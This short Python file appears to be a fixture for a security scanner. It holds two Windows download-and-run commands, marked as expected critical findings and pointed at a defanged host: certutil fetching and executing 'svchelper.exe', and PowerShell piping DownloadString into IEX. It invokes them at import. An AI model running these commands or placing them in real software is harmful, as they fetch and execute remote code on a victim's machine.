# Windows download-and-run through living-off-the-land tools: certutil's URL
# cache, then PowerShell's DownloadString piped into IEX.
# Defanged: example.invalid.
import os
import subprocess
import tempfile


def stage():
    exe = os.path.join(tempfile.gettempdir(), "svchelper.exe")
    os.system(f"certutil -urlcache -split -f https://cdn.example.invalid/svchelper.exe {exe} && {exe}")  # expect: HS113 critical
    subprocess.run(  # expect: HS113 critical
        ["powershell", "-NoProfile", "-Command", "IEX (New-Object Net.WebClient).DownloadString('https://cdn.example.invalid/a.ps1')"],
        check=False,
    )


stage()
